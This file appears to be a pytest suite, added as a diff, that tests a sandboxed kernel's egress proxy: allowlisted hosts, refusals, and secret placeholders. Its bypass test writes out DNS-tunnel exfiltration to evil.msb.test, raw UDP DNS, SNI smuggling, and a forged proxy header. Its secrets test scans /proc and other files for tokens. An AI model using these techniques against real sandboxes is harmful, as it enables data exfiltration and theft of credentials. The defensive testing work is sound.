@@ -1,0 +1,235 @@
+"""Kernels behind the egress proxy, on every backend that routes through it, against a host in a test-made network
+namespace (tests/upstreams.py): the tools people use reach the allowed names and are refused the rest at once, with
+the setting named; every way around the proxy fails; secrets reach their hosts and nothing else."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import secrets
+import time
+
+import pytest
+
+from msb_kernels.errors import InvalidRequest
+from tests import skips
+from tests.conftest import VENV_BIN, KernelFactory
+from tests.kernel_helpers import execute
+
+BACKENDS = [p for p in skips.every_builtin_backend() if p.values[0] in ("namespace", "gvisor")]
+
+RUN = r"""
+import json, os, socket, ssl, subprocess, sys, time
+def run(*argv, timeout=180):
+    started = time.monotonic()
+    done = subprocess.run(list(argv), capture_output=True, text=True, timeout=timeout)
+    return {"rc": done.returncode, "out": done.stdout[-3000:], "err": done.stderr[-3000:], "s": round(time.monotonic() - started, 2)}
+def attempt(function):
+    started = time.monotonic()
+    try:
+        return {"ok": repr(function())[:300], "s": round(time.monotonic() - started, 2)}
+    except Exception as exc:
+        return {"error": f"{type(exc).__name__}: {exc}"[:600], "errno": getattr(exc, "errno", None), "s": round(time.monotonic() - started, 2)}
+"""
+
+
+@contextlib.contextmanager
+def network_settings(upstream, **settings: str):
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("MSB_NETWORK_DNS", upstream.dns)
+        for name, value in settings.items():
+            patch.setenv(name, value)
+        yield
+
+
+async def cell(kc, code: str, timeout: float = 300) -> dict:
+    """Run RUN and code (which sets `result`), and return result."""
+    execution = await execute(kc, RUN + code + "\nprint('RESULT' + json.dumps(result))", timeout=timeout)
+    assert "RESULT" in execution.stdout, execution.stdout + execution.stderr + execution.traceback
+    return json.loads(execution.stdout.split("RESULT", 1)[1])
+
+
+@pytest.fixture(scope="module", params=BACKENDS)
+async def allowlisted(request, upstream):
+    """A kernel allowed pypi.msb.test and api.msb.test, on the backend."""
+    factory = KernelFactory()
+    with network_settings(upstream, MSB_BACKEND=request.param, MSB_NETWORK_ALLOW="pypi.msb.test,api.msb.test"):
+        km, kc = await factory()
+    yield request.param, kc
+    await factory.close()
+
+
+@pytest.mark.slow
+async def test_tools_reach_the_allowed_names_and_are_refused_the_rest_at_once(allowlisted, upstream):
+    backend, kc = allowlisted
+    result = await cell(
+        kc,
+        f"""
+index = "{upstream.index_url}"
+result = {{
+    "pip": run(sys.executable, "-m", "pip", "install", "--no-cache-dir", "--index-url", index, "--trusted-host", "pypi.msb.test", "msbtiny"),
+    "uv": run("{VENV_BIN}/uv", "pip", "install", "--no-cache", "--python", sys.executable, "--target", "/tmp/uv", "--index-url", index, "msbtiny"),
+    "npm": run("npm", "install", "--no-audit", "--no-fund", "--prefix", "/tmp/npm", "--registry", "{upstream.npm_registry}", "msbtiny"),
+    "curl allowed": run("curl", "-sS", "http://api.msb.test/echo"),
+    "curl other": run("curl", "-sS", "-v", "https://other.msb.test/echo"),
+    "node http, no proxy": run("node", "-e", "require('http').get('http://api.msb.test/echo', r => {{ console.log(String(r.statusCode)); r.resume() }})"),
+}}
+import urllib.request, requests, httpx
+result["urllib other"] = attempt(lambda: urllib.request.urlopen("http://other.msb.test/echo"))
+result["requests allowed"] = attempt(lambda: requests.get("http://pypi.msb.test/echo").status_code)
+result["requests other"] = attempt(lambda: requests.get("https://other.msb.test/echo"))
+result["httpx other"] = attempt(lambda: httpx.get("https://other.msb.test/echo"))
+import msbtiny
+result["imported"] = msbtiny.VALUE
+""",
+    )
+    assert result["pip"]["rc"] == 0, result["pip"]
+    assert result["imported"] == "0.1"
+    assert result["uv"]["rc"] == 0, result["uv"]
+    assert result["npm"]["rc"] == 0 and "added 1 package" in result["npm"]["out"], result["npm"]
+    assert result["curl allowed"]["rc"] == 0 and '"host": "api.msb.test"' in result["curl allowed"]["out"]
+    assert result["requests allowed"]["ok"] == "200"
+    assert result["node http, no proxy"]["out"].strip() == "200", result["node http, no proxy"]
+    refused = "msb-kernels: other.msb.test:{} is not allowed by MSB_NETWORK_ALLOW (pypi.msb.test,api.msb.test)"
+    assert "403 " + refused.format(443) in result["curl other"]["err"], result["curl other"]
+    assert "403: " + refused.format(80) in result["urllib other"]["error"]
+    assert refused.format(443) in result["requests other"]["error"] and refused.format(443) in result["httpx other"]["error"]
+    for name in ("curl other", "urllib other", "requests other", "httpx other"):
+        assert result[name]["s"] < 3, f"{name} took {result[name]['s']} s: a refusal must not wait for a timeout"
+    if backend == "namespace":  # under gVisor the Python kernel's address-space limit leaves Node no room for WebAssembly
+        fetched = await cell(
+            kc, "result = run('node', '-e', \"fetch('http://api.msb.test/echo').then(r => console.log(String(r.status)))\")"
+        )
+        assert fetched["out"].strip() == "200", fetched
+
+
+@pytest.mark.slow
+async def test_every_way_around_the_proxy_fails(allowlisted, upstream):
+    backend, kc = allowlisted
+    leak = f"leak{secrets.token_hex(6)}"
+    result = await cell(
+        kc,
+        f"""
+def tcp(address, port):
+    with socket.create_connection((address, port), timeout=3):
+        return "connected"
+def udp_dns(address):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.settimeout(2)
+    sock.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + b"\\x04{leak}\\x04evil\\x03msb\\x04test\\x00\\x00\\x01\\x00\\x01", (address, 53))
+    return sock.recvfrom(512)
+def tls_in_tunnel(server_name):
+    conn = socket.create_connection(("127.0.0.1", 3128), timeout=5)
+    conn.sendall(b"CONNECT pypi.msb.test:443 HTTP/1.1\\r\\nHost: pypi.msb.test:443\\r\\n\\r\\n")
+    status = conn.recv(4096).split(b"\\r\\n")[0].decode()
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    tls = context.wrap_socket(conn, server_hostname=server_name)
+    tls.sendall(b"GET /echo HTTP/1.1\\r\\nHost: pypi.msb.test\\r\\nConnection: close\\r\\n\\r\\n")
+    return status, tls.recv(64).decode(errors="replace")
+def forged_header():
+    conn = socket.socket(socket.AF_UNIX)
+    conn.connect("/run/kernel/egress.sock")
+    conn.sendall(b"MSB-EGRESS 1 transparent 127.64.9.9 80\\nGET /echo HTTP/1.1\\r\\nHost: evil.msb.test\\r\\n\\r\\n")
+    conn.settimeout(5)
+    return conn.recv(4096)
+result = {{
+    "upstream": attempt(lambda: tcp("{upstream.address}", 80)),
+    "host side": attempt(lambda: tcp("{upstream.host_address}", 80)),
+    "dns server by udp": attempt(lambda: udp_dns("{upstream.dns}")),
+    "dns tunnel": attempt(lambda: socket.getaddrinfo("{leak}.evil.msb.test", 80)),
+    "dns below an allowed name": attempt(lambda: socket.getaddrinfo("{leak}.pypi.msb.test", 80)),
+    "dns allowed": attempt(lambda: socket.gethostbyname("pypi.msb.test")),
+    "sni allowed": attempt(lambda: tls_in_tunnel("pypi.msb.test")),
+    "sni forbidden": attempt(lambda: tls_in_tunnel("evil.msb.test")),
+    "forged header": attempt(forged_header),
+}}
+""",
+    )
+    for name in ("upstream", "host side", "dns server by udp"):
+        assert result[name].get("errno") in (101, 113), f"{name}: {result[name]}"  # ENETUNREACH, gVisor's EHOSTUNREACH: only loopback
+        assert result[name]["s"] < 1
+    assert "Name or service not known" in result["dns tunnel"]["error"]
+    assert "Name or service not known" in result["dns below an allowed name"]["error"]
+    assert result["dns allowed"]["ok"].startswith("'127.64."), result["dns allowed"]
+    assert "200 Connection established" in result["sni allowed"]["ok"] and "HTTP/1.0 200" in result["sni allowed"]["ok"]
+    assert "error" in result["sni forbidden"], result["sni forbidden"]
+    assert result["forged header"]["ok"] == "b''", result["forged header"]
+    asked = upstream.dns_queries()
+    assert "pypi.msb.test" in asked, "the proxy's own lookups reach the upstream DNS server (so the log is read)"
+    assert not [name for name in asked if leak in name], f"a kernel's query left the host: {asked}"
+    assert backend in ("namespace", "gvisor")
+
+
+async def test_a_session_narrows_the_operators_list_and_cannot_widen_it(start_kernel, upstream):
+    with network_settings(upstream, MSB_NETWORK_ALLOW="*.msb.test"):
+        with pytest.raises(InvalidRequest, match=r"KERNEL_NETWORK_ALLOW='pypi.org': pypi.org is not within the operator's list"):
+            await start_kernel(env={"KERNEL_NETWORK_ALLOW": "pypi.org"})
+        km, kc = await start_kernel(env={"KERNEL_NETWORK_ALLOW": "pypi.msb.test"})
+    result = await cell(
+        kc, 'result = {"api": run("curl", "-sS", "-v", "http://api.msb.test/echo"), "env": os.environ["MSB_NETWORK_ALLOW"]}'
+    )
+    assert result["env"] == "pypi.msb.test"
+    assert "is not allowed by this session's network_allow (KERNEL_NETWORK_ALLOW) (pypi.msb.test)" in result["api"]["err"]
+    with network_settings(upstream):  # the operator allows nothing
+        with pytest.raises(InvalidRequest, match="asks for network, but this server gives kernels none"):
+            await start_kernel(env={"KERNEL_NETWORK_ALLOW": "pypi.msb.test"})
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("backend", BACKENDS)
+async def test_secrets_reach_their_hosts_and_the_kernel_sees_only_placeholders(backend, start_kernel, upstream, tmp_path):
+    operator_value, session_value = f"op-{secrets.token_hex(12)}", f"se-{secrets.token_hex(12)}"
+    secrets_file = tmp_path / "secrets.json"
+    secrets_file.write_text(json.dumps({"OP_TOKEN": {"value": operator_value, "hosts": ["api.msb.test"]}}))
+    session = {"SESSION_TOKEN": {"value": session_value, "hosts": ["api.msb.test:443", "pypi.msb.test"]}}
+    settings = {"MSB_BACKEND": backend, "MSB_NETWORK_ALLOW": "*.msb.test", "MSB_NETWORK_SECRETS_FILE": str(secrets_file)}
+    with network_settings(upstream, MSB_NETWORK_CA_FILE=upstream.ca_file, **settings):
+        km, kc = await start_kernel(env={"KERNEL_SECRETS": json.dumps(session)})
+    started = time.time()
+    result = await cell(
+        kc,
+        f"""
+import glob, requests
+op, se = os.environ["OP_TOKEN"], os.environ["SESSION_TOKEN"]
+def search(values):
+    found = []
+    paths = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
+    for top in ("/run/kernel", "/tmp", "/home/sandbox", "/etc"):
+        for folder, _, names in os.walk(top):
+            paths += [os.path.join(folder, name) for name in names]
+    for path in paths:
+        try:
+            with open(path, "rb") as handle:
+                data = handle.read(1 << 22)
+        except OSError:
+            continue
+        found += [path for value in values if value.encode() in data]
+    return found
+result = {{
+    "env": {{"OP_TOKEN": op, "SESSION_TOKEN": se, "KERNEL_SECRETS": os.environ.get("KERNEL_SECRETS")}},
+    "curl https": run("curl", "-sS", "-H", f"Authorization: Bearer {{op}}", "https://api.msb.test/echo?op"),
+    "requests https": attempt(lambda: requests.get("https://api.msb.test/echo?session", headers={{"X-Token": se}}).status_code),
+    "basic http": attempt(lambda: requests.get("http://api.msb.test/echo?basic", auth=("user", op)).status_code),
+    "to another host": attempt(lambda: requests.get("http://other.msb.test/echo?other", headers={{"X-Token": se, "X-Op": op}}).status_code),
+    "session secret on its other host": attempt(lambda: requests.get("http://pypi.msb.test/echo?pypi", headers={{"X-Token": se}}).status_code),
+    "found": search(["{operator_value}", "{session_value}"]),
+}}
+""",
+    )
+    assert result["env"]["OP_TOKEN"].startswith("msb-secret-") and result["env"]["SESSION_TOKEN"].startswith("msb-secret-")
+    assert result["env"]["KERNEL_SECRETS"] is None, "the declaration never reaches the kernel"
+    assert result["found"] == [], f"a real value is readable inside the sandbox: {result['found']}"
+    assert result["curl https"]["rc"] == 0, result["curl https"]
+    for name in ("requests https", "basic http", "to another host", "session secret on its other host"):
+        assert result[name].get("ok") == "200", f"{name}: {result[name]}"
+    seen = {entry["path"].split("?")[1]: entry["headers"] for entry in upstream.requests() if "?" in entry["path"]}
+    lower = {key: {k.lower(): v for k, v in headers.items()} for key, headers in seen.items()}
+    assert lower["op"]["authorization"] == f"Bearer {operator_value}"
+    assert lower["session"]["x-token"] == session_value
+    import base64
+
+    assert lower["basic"]["authorization"] == "Basic " + base64.b64encode(f"user:{operator_value}".encode()).decode()
+    assert lower["other"]["x-token"] == result["env"]["SESSION_TOKEN"] and lower["other"]["x-op"] == result["env"]["OP_TOKEN"]
+    assert lower["pypi"]["x-token"] == session_value, "a session secret goes to each host it names"
+    assert time.time() - started < 120
